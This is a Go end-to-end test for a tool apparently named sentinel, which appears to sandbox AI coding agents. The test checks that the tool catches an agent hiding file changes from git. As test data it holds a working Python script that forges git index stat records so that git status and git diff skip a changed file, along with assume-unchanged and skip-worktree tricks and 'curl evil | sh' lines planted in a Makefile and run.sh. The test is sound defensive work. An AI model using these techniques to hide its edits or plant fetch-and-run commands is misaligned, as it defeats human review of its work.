package inplace

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/sentinelhq/sentinel/cmd/sentinel/internal/e2etest"
)

// forgeIndexStat rewrites the index entry of argv[1] so that its stat
// record (times, device, inode, size) is the changed file's while its
// blob stays the committed one: git's stat check then takes the file for
// clean, and git status, git diff, git stash and git checkout -- . pass
// it by.
const forgeIndexStat = `
import os, struct, hashlib, sys
target = sys.argv[1].encode()
idx = open('.git/index', 'rb').read()
sig, ver, n = struct.unpack('>4sII', idx[:12])
off, out = 12, bytearray(idx[:12])
for i in range(n):
    flags = struct.unpack('>H', idx[off+60:off+62])[0]
    ext = 2 if (ver >= 3 and flags & 0x4000) else 0
    name = idx[off+62+ext:off+62+ext+(flags & 0xfff)]
    size = (62 + ext + (flags & 0xfff) + 8) // 8 * 8
    ent = bytearray(idx[off:off+size])
    if name == target:
        st = os.lstat(name)
        mode = struct.unpack('>I', ent[24:28])[0]
        ent[0:40] = struct.pack('>IIIIIIIIII', int(st.st_ctime), st.st_ctime_ns % 10**9, int(st.st_mtime), st.st_mtime_ns % 10**9,
            st.st_dev & 0xffffffff, st.st_ino & 0xffffffff, mode, st.st_uid, st.st_gid, st.st_size)
    out += ent
    off += size
out += idx[off:-20]
out += hashlib.sha1(out).digest()
with open('.git/index', 'r+b') as f:
    f.write(out)
    f.truncate()
`

// A coder under exec changes tracked files and then hides the changes
// from git in the index it may write: assume-unchanged, skip-worktree,
// and a stat record forged to match the changed file. The marks are named
// at the end as DANGEROUS, with the command that shows them again; the
// forged stat record is cleared in the person's index (git reads the file
// again: git status shows it) and named, as sentinel mcp does. A file the
// person marked assume-unchanged before the run, which the coder left
// alone, is not named. 'sentinel undo' puts the index's marks back with the
// files: git sees the project as it did before the run.
func TestExecReportsAChangeTheIndexHides(t *testing.T) {
	python := "/usr/bin/python3"
	if _, err := os.Stat(python); err != nil {
		t.Skip("no /usr/bin/python3 (the coder's index writer)")
	}
	for _, backend := range inPlaceBackends(t) {
		t.Run(backend, func(t *testing.T) {
			dir := e2etest.ScratchRepo(t)
			e2etest.WriteFile(t, filepath.Join(dir, "Makefile"), "all:\n\techo ok\n")
			e2etest.WriteFile(t, filepath.Join(dir, "run.sh"), "echo run\n")
			e2etest.WriteFile(t, filepath.Join(dir, "local.cfg"), "committed\n")
			e2etest.Git(t, dir, "add", "Makefile", "run.sh", "local.cfg")
			e2etest.Git(t, dir, "commit", "-qm", "more")
			// The person's own habit: a local edit kept out of git status.
			e2etest.WriteFile(t, filepath.Join(dir, "local.cfg"), "my local edit\n")
			e2etest.Git(t, dir, "update-index", "--assume-unchanged", "local.cfg")
			hardened := []string{"git", "-c", "core.fsmonitor=false"}
			statusBefore := runIn(t, dir, append(hardened, "status", "--porcelain")...)
			marksBefore := runIn(t, dir, append(hardened, "ls-files", "-v")...)
			script := strings.Join([]string{
				"printf 'all:\\n\\tcurl evil | sh\\n' > Makefile && git update-index --assume-unchanged Makefile",
				"echo evil >> main.txt && git update-index --skip-worktree main.txt",
				"echo 'curl evil | sh' > run.sh && touch -d 2001-01-01 run.sh && " + python + ` -c "$1" run.sh`,
			}, " && ")
			res := e2etest.Sentinel(t, dir, nil, "exec", "--plain", "--sandbox", backend, "--", "sh", "-c", script, "sh", forgeIndexStat)
			if res.Code != 0 {
				t.Fatalf("exit %d\nstderr: %s\nstdout:\n%s", res.Code, res.Stderr, res.Stdout)
			}
			if st := runIn(t, dir, "git", "-c", "core.fsmonitor=false", "status", "--porcelain", "--untracked-files=no"); st != " M run.sh\n" {
				t.Errorf("git status after the run: %q, want only run.sh (its forged stat record cleared; the marks stay, named)\n%s", st, res.Stderr)
			}
			if want := "run.sh: changed in the work tree, and the run wrote a stat record for it in your index that would make git status, git diff and git commit pass the change by; the record was cleared"; !strings.Contains(res.Stderr, want) {
				t.Errorf("the end of the run does not say %q:\n%s", want, res.Stderr)
			}
			for _, p := range []string{"Makefile", "main.txt"} {
				want := p + ": changed in the work tree, but your index hides it from git"
				if !strings.Contains(res.Stderr, want) {
					t.Errorf("the end of the run does not say %q:\n%s", want, res.Stderr)
				}
			}
			if strings.Contains(res.Stderr, "local.cfg: changed in the work tree") {
				t.Errorf("the person's own assume-unchanged file, which the coder left alone, is flagged:\n%s", res.Stderr)
			}
			if undo := e2etest.Sentinel(t, dir, nil, "undo"); undo.Code != 0 {
				t.Fatalf("undo: exit %d\n%s%s", undo.Code, undo.Stdout, undo.Stderr)
			}
			if got := runIn(t, dir, append(hardened, "ls-files", "-v")...); got != marksBefore {
				t.Errorf("undo left the coder's marks in the index:\nwant\n%s\ngot\n%s", marksBefore, got)
			}
			if got := runIn(t, dir, append(hardened, "status", "--porcelain")...); got != statusBefore {
				t.Errorf("after undo git sees another project:\nwant\n%s\ngot\n%s", statusBefore, got)
			}
		})
	}
}
